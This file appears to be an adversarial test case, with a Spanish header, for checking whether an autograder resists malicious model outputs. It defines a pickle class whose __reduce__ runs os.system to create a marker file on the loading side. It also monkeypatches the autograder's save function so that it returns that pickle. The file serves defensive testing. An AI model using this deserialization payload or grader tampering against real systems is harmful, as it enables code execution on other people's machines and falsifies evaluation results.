# /// attack
# tries = "Devuelve objetos cuyo __reduce__ ejecuta órdenes en quien los lea, y un pickle en vez de tensores"
# from = "user"
# expected = { a = "lost", b = "lost", c = "lost", d = "lost" }
# ///
# %%
import os, pickle, sys
class Bomba:
    def __reduce__(self):
        return os.system, ("touch @VICTIM@/ejecutado",)
    def __repr__(self):
        return "Bomba()"
class Head(Head):
    def forward(self, x):
        return Bomba()
def double(x):
    return [Bomba(), pickle.dumps(Bomba())]
for nombre, modulo in list(sys.modules.items()):
    if nombre.startswith("autograder") and hasattr(modulo, "save") and hasattr(modulo, "pack"):
        modulo.save = lambda tensores: pickle.dumps(Bomba())
